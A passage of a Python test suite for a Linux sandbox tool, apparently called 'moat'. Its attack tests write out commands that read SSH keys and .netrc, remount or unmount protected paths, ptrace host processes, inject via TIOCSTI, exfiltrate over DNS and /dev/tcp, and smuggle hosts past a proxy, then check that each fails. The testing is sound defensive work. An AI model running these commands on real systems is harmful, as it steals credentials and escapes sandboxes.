    steal(c, "cat /proc/self/root$HOME/.ssh/id_rsa; cat /proc/1/root$HOME/.ssh/id_rsa;"
             " cat /proc/self/cwd/../.ssh/id_rsa > leak")


@attack()
def secret_dotdot(c):
    """Reads the hidden key with `..` and `.` paths from CWD and a deep directory."""
    steal(c, "cat ../.ssh/id_rsa; cat ./../.ssh/./id_rsa; cd deep/a/b/c/d && cat ../../../../../../.ssh/id_rsa")


@attack()
def secret_renamed_parent(c):
    """With HOME writable: renames ~/.ssh (and the key) away and reads it there.
    Judged: no leak, and the key file is still where it was."""
    before = snapshot(c.path("home/.ssh/id_rsa"))
    steal(c, "mv ~/.ssh ~/ssh2; cat ~/ssh2/id_rsa; mv ~/.ssh/id_rsa ~/k; cat ~/k; cp -a ~/.ssh ~/ssh3",
          HOME_WRITABLE)
    c.expect_unchanged("home/.ssh/id_rsa", before)


@attack()
def secret_under_writable_home(c):
    """deny read "~/.ssh" under `allow write "~"`: the write bind of ~ must not re-expose it."""
    steal(c, "cat ~/.ssh/id_rsa > ~/leak; cp ~/.ssh/id_rsa leak2", HOME_WRITABLE)


@attack()
def secret_netrc_file(c):
    """`deny read file "~/.netrc"`: reads it directly and through a symlink."""
    steal(c, "cat ~/.netrc; ln -s ~/.netrc n; cat n > leak", 'deny read file "~/.netrc";\n')


@attack()
def secret_glob_pem(c):
    """`deny read "~/**/*.pem"`: reads ~/certs/key.pem (a glob realised at launch)."""
    steal(c, "cat ~/certs/key.pem > leak; find ~ -name '*.pem' -exec cat {} +", 'deny read "~/**/*.pem";\n')


@attack()
def secret_grep_everything(c):
    """Searches HOME, TMPDIR and the scratch tree for the secret's prefix (any copy
    the sandbox can see: quarantine, session directories, other views)."""
    steal(c, "grep -r -a MOAT-SECRET %s %s 2>/dev/null | head -c 4096"
          % (q(c.home), q(c.dir)), 'deny read file "~/.netrc";\ndeny read "~/**/*.pem";\n')


@attack()
def secret_cli_deny_read(c):
    """--deny-read=~/.ssh on the command line (the policy file hides nothing)."""
    policy = c.policy(base=BASE_POLICY.replace('deny read "~/.ssh";\n', ""))
    c.attack("cat ~/.ssh/id_rsa > leak", policy=policy, args=["--deny-read=" + c.path("home/.ssh")])
    c.expect_no_leak()


# --- attacks: kernel side doors ---------------------------------------------------------------

@attack()
def mknod_device(c):
    """mknod of /dev/mem (1:1), null (1:3) and the block device of the scratch
    filesystem in CWD. Judged: no device node on the host."""
    c.attack(c.helper("mknod", c.cwd) + "mknod mem c 1 1; mknod disk b 8 0")


@attack()
def remount_home_rw(c):
    """Remounts HOME (read-only in the sandbox) read-write, then writes ~/.bashrc
    and ~/notes.txt (helper: mount(2), mount_setattr, i386; and mount(8))."""
    c.attack(c.helper("mount", "remount", c.home) + "mount -o remount,rw ~ 2>/dev/null\n"
             + tamper(c.path("home/.bashrc")) + tamper(c.path("home/notes.txt")))


@attack()
def remount_root_rw(c):
    """Remounts / read-write, then writes etc/passwd of the scratch tree."""
    c.attack(c.helper("mount", "remount", "/") + "mount -o remount,rw / 2>/dev/null\n"
             + tamper(c.path("etc/passwd")))


@attack()
def umount_hidden_dir(c):
    """Unmounts the mask over ~/.ssh (deny read) and reads the key beneath."""
    steal(c, c.helper("mount", "umount", c.path("home/.ssh")) + "umount -l ~/.ssh 2>/dev/null\n"
          "cat ~/.ssh/id_rsa > leak")


@attack()
def umount_protected_file(c):
    """With HOME writable: unmounts the read-only mount over ~/.bashrc and .git/hooks, then writes them."""
    before = snapshot(c.path("home/.bashrc"))
    c.attack(c.helper("mount", "umount", c.path("home/.bashrc"))
             + c.helper("mount", "umount", os.path.join(c.cwd, ".git/hooks"))
             + tamper(c.path("home/.bashrc")) + tamper(os.path.join(c.cwd, ".git/hooks/pre-commit")),
             policy=c.policy(HOME_WRITABLE))
    c.expect_unchanged("home/.bashrc", before)
    expect(snapshot(c.path("home/proj/.git/hooks/pre-commit")) is None, "a pre-commit hook was written")


@attack()
def bind_mount_over(c):
    """Bind-mounts CWD (writable) over HOME and over .git/hooks, then writes
    through the new mounts (mount(2), open_tree+move_mount, i386)."""
    c.attack(c.helper("mount", "bind", c.cwd, c.home)
             + c.helper("mount", "bind", c.tmp, os.path.join(c.cwd, ".git/hooks"))
             + tamper(c.path("home/.bashrc")) + tamper(os.path.join(c.cwd, ".git/hooks/pre-commit")))
    expect(snapshot(c.path("home/proj/.git/hooks/pre-commit")) is None, "a pre-commit hook was written")


@attack()
def userns_syscalls(c):
    """A new user namespace (unshare/clone/clone3, x86_64, x32, i386) to unmount
    the mask over ~/.ssh and copy the key into CWD."""
    steal(c, c.helper("userns", c.path("home/.ssh"), c.path("home/.ssh/id_rsa"), os.path.join(c.cwd, "leak")))


@attack()
def userns_tools(c):
    """unshare -Ur and a nested bwrap (which would rebind HOME writable and
    the hidden ~/.ssh) try to write ~/.bashrc and read the key."""
    c.attack("""
        unshare -Urm sh -c 'umount -l ~/.ssh; cat ~/.ssh/id_rsa > leak1; mount -o remount,rw ~; echo evil >> ~/.bashrc'
        bwrap --dev-bind / / --bind ~ ~ sh -c 'echo evil >> ~/.bashrc; cat ~/.ssh/id_rsa > leak2'
        bwrap --unshare-user --uid 0 --dev-bind / / --tmpfs ~/.ssh sh -c 'echo evil >> ~/.bashrc'
    """)


@attack()
def ptrace_host_process(c):
    """ptrace(ATTACH)+PEEKDATA, process_vm_readv and /proc/PID/mem against a host
    process of the same user holding a secret in its environment (by its host
    pid, and every process visible). Judged: the secret nowhere on the host."""
    secret = "MOATVICTIM-" + secrets.token_hex(12)
    victim = c.victim(secret)
    c.attack(c.helper("ptrace", b"MOATVICTIM-".hex(), os.path.join(c.cwd, "leak"), victim.pid))
    c.expect_no_leak(secret.encode())


@attack()
def proc_environ_scan(c):
    """Reads /proc/*/environ and cmdline of every visible pid (and the host pid of
    a victim holding a secret) into CWD."""
    secret = "MOATVICTIM-" + secrets.token_hex(12)
    victim = c.victim(secret)
    c.attack("for f in /proc/[0-9]*/environ /proc/%d/environ /proc/[0-9]*/cmdline; do cat $f; done"
             " > leak 2>/dev/null; cat /proc/%d/environ" % (victim.pid, victim.pid))
    c.expect_no_leak(secret.encode())


@attack()
def signal_host_process(c):
    """Kills a host process of the same user by its pid. Judged: it is still alive."""
    victim = c.victim("x")
    c.attack("kill -KILL %d; kill -STOP %d" % (victim.pid, victim.pid))
    expect(victim.poll() is None, "the host process was killed from inside the sandbox")
    with open("/proc/%d/stat" % victim.pid) as f:
        expect(f.read().split(") ")[1][0] != "T", "the host process was stopped from inside the sandbox")


@attack()
def tiocsti_injection(c):
    """TIOCSTI (CVE-2017-5226) on the terminal moat runs on: a pty of ours, made
    moat's controlling terminal. Judged on the host: the injected command is
    neither in the terminal's input queue nor echoed on the master."""
    marker = "PWNED" + secrets.token_hex(6)
    master, slave = pty.openpty()
    try:
        proc = c.start(["/bin/sh", "-c", c.helper("tiocsti", "echo %s\n" % marker)
                        + "[ $admitted = 1 ] && exit %d; exit 0" % ESCAPED],
                       stdin=slave, stdout=slave, stderr=slave, controlling_tty=True)
        run = c.finish(proc)
        os.set_blocking(master, False)
        os.set_blocking(slave, False)
        echoed = read_available(master)
        queued = read_available(slave)
    finally:
        os.close(master)
        os.close(slave)
    expect(marker.encode() not in queued, "injected text waits in the terminal's input queue: %r" % queued[:80])
    expect(marker.encode() not in echoed, "injected text was echoed by the terminal: %r" % echoed[-200:])
    expect(run.rc != ESCAPED, "ioctl(TIOCSTI) worked inside the sandbox")
    expect(run.rc == 0, "the attack did not run to its end: %r (terminal: %r)" % (run, echoed[-300:]))


def read_available(fd):
    data = b""
    for _ in range(64):
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data


@attack()
def io_uring_unix_connect(c):
    """io_uring (x86_64, x32, i386): IORING_OP_SOCKET + CONNECT to a unix socket
    the policy does not allow, behind the seccomp filter's back. Judged: our
    listener on that socket sees nothing."""
    denied = c.listen_unix("denied.sock")
    c.listen_unix("allowed.sock")
    c.attack(c.helper("uring", denied.path, "TOKEN"),
             policy=c.policy('allow unix-socket "%s";\n' % os.path.join(c.sockdir, "allowed.sock")))
    denied.expect_nothing("io_uring connect")


# --- attacks: network ---------------------------------------------------------------------------

def host_address():
    """A non-loopback address of this host, or None."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))    # no packet is sent
            address = s.getsockname()[0]
        return None if ipaddress.ip_address(address).is_loopback else address
    except OSError:
        return None


def ipv6_loopback():
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


def loopback_listener(c, udp=False):
    return c.listen_tcp(("127.0.0.1", "::1") if ipv6_loopback() else ("127.0.0.1",), udp)


@attack()
def direct_tcp_loopback(c):
    """connect(2) to our listener on 127.0.0.1 and [::1], bypassing the proxy."""
    l = loopback_listener(c)
    c.attack(c.helper("net", "tcp4", "127.0.0.1", l.port, "TOKEN") + c.helper("net", "tcp6", "::1", l.port, "TOKEN")
             + "bash -c 'echo TOKEN > /dev/tcp/127.0.0.1/%d' 2>/dev/null; curl -s --noproxy '*' http://127.0.0.1:%d/"
             % (l.port, l.port))
    l.expect_nothing("direct TCP")


@attack()
def direct_tcp_host_address(c):
    """connect(2) to our listener on the host's own non-loopback address."""
    address = host_address()
    if not address:
        raise Skip("this host has no non-loopback IPv4 address")
    l = c.listen_tcp((address,))
    c.attack(c.helper("net", "tcp4", address, l.port, "TOKEN"))
    l.expect_nothing("direct TCP to %s" % address)


@attack()
def direct_udp(c):
    """sendto(2) of UDP datagrams to our listener on 127.0.0.1 and [::1]."""
    l = loopback_listener(c, udp=True)
    c.attack(c.helper("net", "udp4", "127.0.0.1", l.port, "TOKEN") + c.helper("net", "udp6", "::1", l.port, "TOKEN"))
    l.expect_nothing("direct UDP")


@attack()
def dns_exfiltration(c):
    """A DNS query carrying data (<secret>.exfil.test) to our UDP 'resolver' on
    127.0.0.1, and name lookups through the system resolver."""
    l = c.listen_tcp(("127.0.0.1",), udp=True)
    query = ("import socket,struct;n=b''.join(bytes([len(p)])+p for p in b'%s.exfil.test'.split(b'.'))+b'\\0';"
             "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);"
             "[s.sendto(struct.pack('!HHHHHH',1,256,1,0,0,0)+n+b'\\0\\1\\0\\1',('127.0.0.1',%d)) for _ in range(3)]"
             % (secrets.token_hex(8), l.port))
    c.attack("%s -c %s; getent hosts exfil-%s.example.com" % (PYTHON, q(query), secrets.token_hex(4)))
    l.expect_nothing("DNS over UDP")


# Host spellings of 127.0.0.1 (and ::1) the proxy must canonicalise and refuse
# when the policy allows only names.
LITERALS = [
    ("dotted", "127.0.0.1"),
    ("decimal", "2130706433"),
    ("hex", "0x7f.1"),
    ("short", "127.1"),
    ("octal", "0177.0.0.1"),
    ("v4-mapped", "[::ffff:127.0.0.1]"),
    ("v6-loopback", "[::1]"),
]


def through_proxy(c, host, port):
    """Shell lines that reach host:port through every front of moat's proxy: an
    absolute-form GET, CONNECT, and SOCKS5 with the host as a domain name."""
    authority = "%s:%d" % (host, port)
    return (c.client("http", "http://%s/" % authority) + c.client("connect", authority, "PING\\n")
            + c.client("socks-name", host.strip("[]"), port, "PING\\n"))


def ip_literal(c, spelling):
    """Reaches our loopback listener by an IP literal when the policy allows only
    names: an absolute-form GET through the HTTP proxy, CONNECT, and SOCKS5
    (the literal as a domain name, bracketed or not, and as a raw address).
    Judged: our listener sees no connection."""
    l = loopback_listener(c)
    raw = spelling.strip("[]")
    script = through_proxy(c, spelling, l.port) + c.client("socks-name", spelling, l.port, "PING\\n")
    if raw.count(".") == 3 or ":" in raw:
        script += c.client("socks-ip", raw, l.port, "PING\\n")
    c.attack(script, policy=c.policy(NAMES_ONLY))
    l.expect_nothing("IP literal %s" % spelling)


table("attack", [("ip-literal-" + name, dict(spelling=s)) for name, s in LITERALS], ip_literal)


@attack()
def socks_control_bytes(c):
    """SOCKS5 and CONNECT names with NUL, CR/LF, tab, space, '%00', '/' and '@'
    that a C-string or URL parser would cut to 127.0.0.1, where the full name
    matches the allowed *.allowed.invalid."""
    l = loopback_listener(c)
    names = ["127.0.0.1\\x00.%s", "localhost\\x00.%s", "127.0.0.1\\n.%s", "127.0.0.1\\r\\n.%s",
             "127.0.0.1\\t.%s", "127.0.0.1 .%s", "127.0.0.1%%00.%s", "127.0.0.1/.%s", "127.0.0.1@x.%s",
             "127.0.0.1#.%s", "127.0.0.1\\\\.%s"]
    script = "".join(c.client("socks-name", n % ALLOWED_NAME, l.port, "PING\\n")
                      + c.client("connect", (n % ALLOWED_NAME) + ":%d" % l.port, "PING\\n") for n in names)
    c.attack(script, policy=c.policy(NAMES_ONLY))
    l.expect_nothing("control bytes in names")


def request_smuggling(c, request):
    """An HTTP proxy request whose host the proxy might take from the wrong
    place (the Host header of an origin-form request, userinfo, a fragment,
    CONNECT with userinfo); only *.allowed.invalid is allowed. Judged: our
    loopback listener sees nothing."""
    l = loopback_listener(c)
    c.attack(c.client("raw", request.format(port=l.port, allowed=ALLOWED_NAME)), policy=c.policy(NAMES_ONLY))
    l.expect_nothing("request %r" % request)


table("attack", [
    ("http-host-header-only", dict(request="GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")),
    ("http-host-header-mismatch",
     dict(request="GET http://{allowed}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n")),
    ("http-userinfo-host",
     dict(request="GET http://{allowed}:80@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\n")),
    ("http-fragment-host",
     dict(request="GET http://127.0.0.1:{port}#@{allowed}/ HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\n")),
    ("connect-userinfo",
     dict(request="CONNECT {allowed}@127.0.0.1:{port} HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\nPING\\n")),
], request_smuggling)


@attack()
def sni_mismatch(c):
    """CONNECT to an allowed host:port, then a TLS ClientHello naming another host
    (evil.example, 127.0.0.1). Judged: our listener gets no ClientHello byte."""
    l = c.listen_tcp(("127.0.0.1",))
    c.attack(c.client("tls", "localhost:%d" % l.port, "evil.example")
             + c.client("tls", "localhost:%d" % l.port, "127.0.0.1"),
             policy=c.policy('allow connect "localhost:%d";\n' % l.port))
    l.settle()
    expect(not l.data, "our listener received %d bytes of a mismatched ClientHello" % len(l.received))


def loopback_alias():
    """A name other than localhost that /etc/hosts maps to a loopback address."""
    try:
        with open("/etc/hosts") as f:
            for line in f:
                fields = line.split("#")[0].split()
                if len(fields) < 2 or ":" in fields[0] or not ipaddress.ip_address(fields[0]).is_loopback:
                    continue
                for name in fields[1:]:
                    if "localhost" not in name and "." not in name.strip("."):
                        return name, fields[0]
    except (OSError, ValueError):
        pass
    return None, None


@attack()
def allowed_name_resolves_to_loopback(c):
    """An allowed name (not localhost) that resolves to a loopback address (an
    /etc/hosts alias: DNS rebinding in miniature). The proxy must refuse the
    address since no rule names it. Judged: our listener sees nothing."""
    name, address = loopback_alias()
    if not name:
        raise Skip("/etc/hosts maps no name other than localhost to a loopback address")
    l = c.listen_tcp((address,))
    c.attack(through_proxy(c, name, l.port), policy=c.policy('allow connect "%s";\n' % name))
    l.expect_nothing("%s -> %s" % (name, address))


@attack()
def localhost_other_port(c):
    """`allow connect "localhost:P"` opens port P only: reaching our listener on
    another port by localhost, 127.0.0.1, 127.1 and [::1] must fail."""
    l = loopback_listener(c)
    other = tcp_listener(("127.0.0.1",))
    other.close()
    c.attack("".join(through_proxy(c, h, l.port) for h in ["localhost", "127.0.0.1", "127.1", "[::1]"]),
             policy=c.policy('allow connect "localhost:%d";\n' % other.port))
    l.expect_nothing("a port the policy does not allow")


@attack()
def localhost_name_not_address(c):
    """`allow connect "localhost:P"` allows the name, not 127.0.0.1:P (hosts.md):
    reaching our listener on port P by an IP literal must fail."""
    l = loopback_listener(c)
    c.attack("".join(through_proxy(c, h, l.port) for h in ["127.0.0.1", "2130706433", "[::ffff:127.0.0.1]"])
             + c.client("socks-ip", "127.0.0.1", l.port, "PING\\n"),
             policy=c.policy('allow connect "localhost:%d";\n' % l.port))
    l.expect_nothing("an IP literal when only localhost is allowed")


# --- attacks: unix sockets -------------------------------------------------------------------------

def unix_policy(c, allowed="allowed.sock"):
    return c.policy('allow unix-socket "%s";\n' % os.path.join(c.sockdir, allowed))


@attack()
def unix_socket_docker_stand_in(c):
    """Connects to a docker.sock stand-in (our listener at sock/docker.sock) that
    no rule allows (no unix-socket rule at all)."""
    l = c.listen_unix("docker.sock")
    c.attack(c.helper("net", "unix", l.path, "GET /containers/json")
             + "curl -s --unix-socket %s http://x/_ping" % q(l.path))
    l.expect_nothing("docker.sock stand-in")


@attack()
def unix_socket_denied_neighbour(c):
    """`allow unix-socket` for sock/allowed.sock: its neighbour sock/docker.sock
    must stay unreachable (stream connect, curl)."""
    c.listen_unix("allowed.sock")
    l = c.listen_unix("docker.sock")
    c.attack(c.helper("net", "unix", l.path, "TOKEN") + "curl -s --unix-socket %s http://x/_ping" % q(l.path),
             policy=unix_policy(c))
    l.expect_nothing("the denied neighbour")


@attack()
def unix_socket_symlink(c):
    """`allow unix-socket "$CWD/app.sock"` (not there yet): the attacker makes
    app.sock a symlink to the denied sock/docker.sock and connects to it."""
    l = c.listen_unix("docker.sock")
    c.attack("ln -s %s app.sock\n" % q(l.path) + c.helper("net", "unix", os.path.join(c.cwd, "app.sock"), "TOKEN"),
             policy=c.policy('allow unix-socket "%s";\n' % os.path.join(c.cwd, "app.sock")))
    l.expect_nothing("a symlink at an allowed path")


@attack()
def unix_socket_path_spellings(c):
    """The denied socket by other spellings of its path: /proc/self/root/...,
    //, /./, a/../a, a relative path, /proc/self/cwd/..."""
    c.listen_unix("allowed.sock")
    l = c.listen_unix("docker.sock")
    rel = os.path.relpath(l.path, c.cwd)
    spellings = ["/proc/self/root" + l.path, l.path.replace("/sock/", "//sock//"), l.path.replace("/sock/", "/sock/./"),
                 l.path.replace("/sock/", "/sock/../sock/"), rel, "/proc/self/cwd/" + rel]
    c.attack("".join(c.helper("net", "unix", s, "TOKEN") for s in spellings), policy=unix_policy(c))
    l.expect_nothing("another spelling of the denied path")


@attack()
def unix_socket_dgram_sendto(c):
    """sendto(2) with a destination address on an unconnected datagram socket (no
    connect(2) for a broker to see) to a denied socket."""
    c.listen_unix("allowed.sock")
    l = c.listen_unix("log.sock", dgram=True)
    c.attack(c.helper("net", "unix-dgram", l.path, "TOKEN") + "logger -u %s escape 2>/dev/null" % q(l.path),
             policy=unix_policy(c))
    l.expect_nothing("a datagram to the denied socket")


@attack()
def unix_socket_i386(c):
    """socket(2)/connect(2) and socketcall(2) through the i386 entry (int 0x80),
    which a filter that checks only x86_64 numbers would miss; with and without
    an allowed socket in the policy."""
    c.listen_unix("allowed.sock")
    l = c.listen_unix("docker.sock")
    c.attack(c.helper("net", "unix-i386", l.path, "TOKEN"))
    c.attack(c.helper("net", "unix-i386", l.path, "TOKEN"), policy=unix_policy(c))
    l.expect_nothing("the i386 socket calls")


@attack()
def abstract_unix_socket(c):
    """Connects to an abstract unix socket (\\0name) a host process listens on;
    the sandbox's network namespace must keep it out of reach, even when the
    policy allows some unix socket."""
    name = "moat-escape-" + secrets.token_hex(6)
    l = c.listen_unix(name, abstract=True)
    c.listen_unix("allowed.sock")
    c.attack(c.helper("net", "abstract", name, "TOKEN"))
    c.attack(c.helper("net", "abstract", name, "TOKEN"), policy=unix_policy(c))
    l.expect_nothing("the abstract socket")


# --- controls: what must keep working ----------------------------------------------------------

def ok(run, what):
    expect(run.rc == 0 and not run.timed_out, "%s: %r" % (what, run))
    return run


@control()
def write_cwd(c):
    """Writes, renames and deletes files in CWD (a write root)."""
    ok(c.sh("echo hello > a.txt && mkdir -p d/e && cp a.txt d/e/b.txt && mv a.txt c.txt && rm data.txt"), "moat run")
    with open(os.path.join(c.cwd, "d/e/b.txt")) as f:
        expect(f.read() == "hello\n", "d/e/b.txt has the wrong content")
    expect(os.path.exists(os.path.join(c.cwd, "c.txt")) and not os.path.exists(os.path.join(c.cwd, "data.txt")),
           "rename or delete did not happen")


@control()
def write_tmpdir(c):
    """Writes a file in $TMPDIR (a write root) with mktemp."""
    ok(c.sh('f=$(mktemp) && echo tmp > "$f" && cp "$f" "$TMPDIR/kept"'), "moat run")
    expect(os.path.exists(os.path.join(c.tmp, "kept")), "no file in TMPDIR")


@control()
def read_home_and_protected_files(c):
    """Reads a HOME file and the write-protected ~/.bashrc and .git/config."""
    run = ok(c.sh("cat ~/notes.txt ~/.bashrc .git/config"), "moat run")
    expect(b"notes" in run.out and b"alias ll" in run.out and b"[core]" in run.out, "missing content: %r" % run.out)


@control()
def git_commit_cwd(c):
    """git add + commit in the launch directory's repository."""
    ok(c.sh("echo change >> README && git add README && git commit -qm change"), "git commit")
    expect(b"change" in c.git_log(c.cwd), "the commit is not in the host's repository")


@control()
def git_init_cwd(c):
    """git init + commit in a launch directory that is not a repository yet; the
    new .git/config (no command keys) stays in place."""
    shutil.rmtree(os.path.join(c.cwd, ".git"))
    shutil.rmtree(os.path.join(c.cwd, "deep"))
    ok(c.sh("git init -q && git add README && git commit -qm first"), "git init + commit")
    expect(b"first" in c.git_log(c.cwd), "the new repository has no commit")
    expect(os.path.isfile(os.path.join(c.cwd, ".git/config")), ".git/config was quarantined or not made")


@control()
def git_with_home_writable(c):
    """With `allow write "~"` (and no ~/.gitconfig on the host), git still works:
    init, commit, status in a new repository."""
    ok(c.sh("git init -q sub && cd sub && echo x > f && git add f && git commit -qm first && git status",
            policy=c.policy(HOME_WRITABLE)), "git")
    expect(b"first" in c.git_log(os.path.join(c.cwd, "sub")), "the new repository has no commit")


@control()
def home_writable_with_foreign_repo(c):
    """With `allow write "~"`, a repository in HOME that belongs to someone else
    (root; made without hooks/) must not stop moat from starting: the sandbox
    cannot create anything there anyway."""
    repo = c.path("home/vendor/repo")
    os.makedirs(repo)
    subprocess.run(["git", "init", "-q", "--template=", repo], env=c.env(), check=True)
    ok(c.sh("echo ok > f", policy=c.policy(HOME_WRITABLE)), "moat run")


@control()
def git_init_commit_subdir(c):
    """git init + commit in a new subdirectory; its .git/config (no command keys)
    and sample hooks stay in place, not quarantined."""
    ok(c.sh("git init -q sub && cd sub && echo x > f && git add f && git commit -qm first"), "git init + commit")
    sub = os.path.join(c.cwd, "sub")
    expect(os.path.isfile(os.path.join(sub, ".git/config")), "sub/.git/config was quarantined or not made")
    expect(b"first" in c.git_log(sub), "the new repository has no commit")
    expect(not os.path.exists(os.path.join(c.state, "moat/quarantine")) or not os.listdir(
        os.path.join(c.state, "moat/quarantine")), "something was quarantined")


@control()
def quarantine_keeps_new_hook(c):
    """A hook written into a repository made during the run is moved to the
    quarantine (kept, not deleted) and moat says so on stderr."""
    c.moat_only("moat's quarantine")
    run = ok(c.sh("git init -q sub && printf '#!/bin/sh\\n' > sub/.git/hooks/pre-push"), "moat run")
    expect(not os.path.exists(os.path.join(c.cwd, "sub/.git/hooks/pre-push")), "the hook is still in place")
    kept = [os.path.join(r, f) for r, _, fs in os.walk(os.path.join(c.state, "moat")) for f in fs if f == "pre-push"]
    expect(kept, "the hook is not under $XDG_STATE_HOME/moat/quarantine")
    expect(b"quarantine" in run.err, "moat did not report the quarantine: %r" % run.err[-300:])


def fetch_listener(c):
    return c.listen_tcp(("127.0.0.1",))


@control()
def http_proxy_fetch(c):
    """curl through HTTP_PROXY to our loopback server (allow connect "127.0.0.1")."""
    l = fetch_listener(c)
    ok(c.sh("curl -sf --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:%d/x -o got" % l.port,
            policy=c.policy('allow connect "127.0.0.1";\n')), "curl")
    with open(os.path.join(c.cwd, "got"), "rb") as f:
        expect(f.read() == l.body, "wrong body")


@control()
def https_connect_tunnel(c):
    """CONNECT through the HTTP proxy (curl --proxytunnel) to our loopback server."""
    l = fetch_listener(c)
    run = ok(c.sh("curl -sf --noproxy '' --proxytunnel --proxy \"$HTTP_PROXY\" http://127.0.0.1:%d/y" % l.port,
                  policy=c.policy('allow connect "127.0.0.1:%d";\n' % l.port)), "curl")
    expect(l.body in run.out and b"CONNECT" not in l.received, "no body through the tunnel: %r" % run.out)


@control()
def socks5_fetch(c):
    """SOCKS5 (python socket code to 127.0.0.1:1080) to our loopback server."""
    l = fetch_listener(c)
    run = ok(c.sh(c.client("socks-ip", "127.0.0.1", l.port, "PING\\n"),
                  policy=c.policy('allow connect "127.0.0.1";\n')), "client")
    expect(l.body in run.out, "no answer through SOCKS5: %r" % run.out)


@control()
def tls_matching_sni(c):
    """CONNECT localhost:P with a ClientHello naming localhost: the hello reaches us."""
    l = fetch_listener(c)
    ok(c.sh(c.client("tls", "localhost:%d" % l.port, "localhost"),
            policy=c.policy('allow connect "localhost:%d";\n' % l.port)), "client")
    l.settle()
    expect(l.received.startswith(b"\x16\x03"), "the ClientHello did not arrive: %r" % l.received[:20])


@control()
def cli_allow_connect(c):
    """--allow-connect=127.0.0.1:P on the command line opens that port only."""
    l = fetch_listener(c)
    ok(c.sh("curl -sf --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:%d/ -o got" % l.port,
            args=["--allow-connect=127.0.0.1:%d" % l.port]), "curl")
    expect(os.path.exists(os.path.join(c.cwd, "got")), "nothing fetched")


@control()
def cli_allow_write(c):
    """--allow-write=PATH on the command line makes a directory writable."""
    extra = c.path("home/extra")
    os.makedirs(extra)
    c.identity.own(extra)
    ok(c.sh("echo x > %s/f" % q(extra), args=["--allow-write=" + extra]), "moat run")
    expect(os.path.exists(os.path.join(extra, "f")), "no file written")


@control()
def log_records_denial(c):
    """--log=FILE gets JSON lines, one naming a refused connection."""
    log = c.path("run.log")
    l = fetch_listener(c)
    c.sh(c.client("connect", "127.0.0.1:%d" % l.port, "PING\\n"), args=["--log=" + log])
    expect(os.path.exists(log), "no log file")
    with open(log, "rb") as f:
        text = f.read()
    expect(b"127.0.0.1" in text, "the log does not name the refused host: %r" % text[:300])


@control()
def unix_socket_allowed(c):
    """`allow unix-socket "sock/allowed.sock"`: a connection reaches our listener."""
    l = c.listen_unix("allowed.sock")
    ok(c.moat([c.suite.helpers["net"], "unix", l.path, "HELLO"], policy=unix_policy(c)), "moat run")
    l.settle()
    expect(l.connections >= 1 and b"HELLO" in l.received, "the allowed socket got no connection")


@control()
def gcc_compile_and_run(c):
    """Compiles a C program with gcc (temporary files in TMPDIR) and runs it."""
    if not shutil.which("gcc"):
        raise Skip("gcc is not installed")
    run = ok(c.sh("printf '#include <stdio.h>\\nint main(void){puts(\"built\");return 0;}\\n' > m.c"
                  " && gcc -o m m.c && ./m"), "gcc")
    expect(b"built" in run.out, "the program did not run")


@control()
def python_c(c):
    """python3 -c runs and writes a file."""
    ok(c.moat([PYTHON, "-c", "open('py.txt','w').write(str(6*7))"]), "python3")
    with open(os.path.join(c.cwd, "py.txt")) as f:
        expect(f.read() == "42", "wrong content")


@control()
def shell_pipeline_jobs(c):
    """A pipeline with background jobs and `wait`."""
    run = ok(c.sh("(sleep 0.1; echo a) & (echo b | tr b c) & wait; seq 1 100 | sort -rn | head -1"), "sh")
    expect(run.out.split() == [b"c", b"a", b"100"], "wrong output: %r" % run.out)


@control()
def exit_status_passes_through(c):
    """exit 3 gives 3."""
    expect(c.sh("exit 3").rc == 3, "exit 3 did not give 3")


@control()
def exit_status_of_signal(c):
    """A command killed by SIGTERM (kill -TERM $$) gives 143."""
    run = c.sh("kill -TERM $$")
    expect(run.rc == 143, "got %r" % run)


@control()
def sigterm_is_forwarded(c):
    """SIGTERM sent to moat's pid reaches the command, whose trap writes a marker."""
    proc = c.start(["/bin/sh", "-c", "trap 'echo got > marker; exit 0' TERM; touch ready;"
                    " i=0; while [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done"])
    ready = os.path.join(c.cwd, "ready")
    deadline = time.monotonic() + 15
    while not os.path.exists(ready) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    expect(os.path.exists(ready), "the command never started")
    os.kill(proc.pid, signal.SIGTERM)
    run = c.finish(proc, timeout=15)
    expect(os.path.exists(os.path.join(c.cwd, "marker")), "the trap did not run: %r" % run)
    expect(run.rc == 0, "moat did not return the command's status: %r" % run)


@control()
def stdin_passes_through(c):
    """Bytes on moat's stdin reach the command (cat), and its stdout comes back."""
    data = os.urandom(1 << 16)
    run = ok(c.moat(["/bin/sh", "-c", "cat; cat > /dev/null"], stdin_bytes=data), "cat")
    expect(run.out == data, "stdout differs from stdin (%d of %d bytes)" % (len(run.out), len(data)))


@control()
def parallel_runs(c):
    """20 parallel `moat run`s in one CWD, each writing its own file: all succeed."""
    policy = c.policy()
    procs = [c.start(["/bin/sh", "-c", "echo %d > par-%d; sleep 0.2" % (i, i)], policy=policy) for i in range(20)]
    runs = [c.finish(p) for p in procs]
    bad = [i for i, r in enumerate(runs) if r.rc != 0]
    expect(not bad, "runs %s failed: %r" % (bad, runs[bad[0]] if bad else None))
    for i in range(20):
        with open(os.path.join(c.cwd, "par-%d" % i)) as f:
            expect(f.read() == "%d\n" % i, "par-%d has the wrong content" % i)


@control()
def nothing_left_on_the_host(c):
    """After a run (with HOME writable, so placeholders are made for every missing
    protected name), HOME and CWD hold exactly what they held before."""
    before = tree(c.home)
    ok(c.sh("true", policy=c.policy(HOME_WRITABLE)), "moat run")
    ok(c.sh("true"), "moat run")
    after = tree(c.home)
    expect(before == after, "left on the host: %s; gone: %s"
           % (sorted(set(after) - set(before))[:10], sorted(set(before) - set(after))[:10]))


@control()
def no_session_left(c):
    """After runs that ended normally, by exit status and by signal, no session
